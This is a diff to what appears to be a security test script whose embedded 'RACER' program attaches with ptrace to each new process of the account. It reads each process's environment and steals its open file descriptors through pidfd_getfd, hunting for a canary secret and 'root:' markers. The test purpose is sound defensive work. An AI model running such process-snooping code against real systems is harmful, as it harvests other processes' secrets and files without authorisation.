@@ -25,13 +25,13 @@ ROUNDS = 200
 SECRET = "canary-of-root"
 ROOT = Path(__file__).parents[2]
 
-# Seizes each new process of the account as soon as the kernel allows it, without a pause. A seized process is
-# stopped; its environment is read, and every descriptor above the standard streams is taken and read.
+# Seizes each new process of the account as soon as the kernel allows it, without a pause. The environment of
+# each is read, and every descriptor above the standard streams is taken and read.
 RACER = r"""
 import ctypes, json, os, sys
 libc = ctypes.CDLL(None, use_errno=True)
 libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
-SEIZE, INTERRUPT, DETACH, PIDFD_GETFD = 0x4206, 0x4207, 17, 438
+SEIZE, CONTINUE, PIDFD_GETFD = 0x4206, 7, 438
 ptrace = libc.ptrace
 won = dict.fromkeys(("seized", "environ", "descriptor"), 0)
 marks = sys.argv[1].encode(), b"root:"
@@ -71,12 +71,15 @@ while True:
             continue
         if ptrace(SEIZE, pid, None, None) == 0:
             seen.add(pid)
-            ptrace(INTERRUPT, pid, None, None)
-            os.waitpid(pid, 0x40000000)
             won["seized"] += 1
             environ(pid)
             descriptors(pid)
-            ptrace(DETACH, pid, None, None)
+    try:
+        pid, status = os.waitpid(-1, os.WNOHANG | 0x40000000)
+        if pid and os.WIFSTOPPED(status):
+            ptrace(CONTINUE, pid, None, os.WSTOPSIG(status) if status >> 16 == 0 else None)
+    except ChildProcessError:
+        pass
     looked += 1
     if looked % 64 == 0:
         try:
